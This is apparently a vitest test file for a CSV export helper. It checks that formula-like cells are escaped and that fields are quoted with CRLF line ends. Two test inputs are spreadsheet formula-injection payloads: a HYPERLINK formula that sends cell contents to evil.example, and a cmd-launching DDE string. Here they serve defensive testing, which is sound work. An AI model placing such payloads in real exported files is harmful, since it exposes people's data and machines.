import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../common/csv';

describe('CSV export', () => {
  it('neutralises cells a spreadsheet would take for a formula', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csvCell('@SUM(1+1)*cmd|\' /C calc\'!A0')).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(csvCell('+1 555 0100')).toBe(`'+1 555 0100`);
    expect(csvCell('-2+3')).toBe(`'-2+3`);
    expect(csvCell('\t=1+1')).toBe(`'\t=1+1`);
    expect(csvCell('anna@example.org')).toBe('anna@example.org');
    expect(csvCell('a = b')).toBe('a = b');
  });

  it('quotes commas, quotes and line breaks, and writes a header row with CRLF line ends', () => {
    const csv = toCsv<{ note: string; n: number }>(
      [
        ['Note', (r) => r.note],
        ['Count', (r) => r.n],
      ],
      [
        { note: 'one, two', n: 1 },
        { note: 'say "hi"\nthen leave', n: 2 },
      ],
    );
    expect(csv).toBe('Note,Count\r\n"one, two",1\r\n"say ""hi""\nthen leave",2\r\n');
  });
});
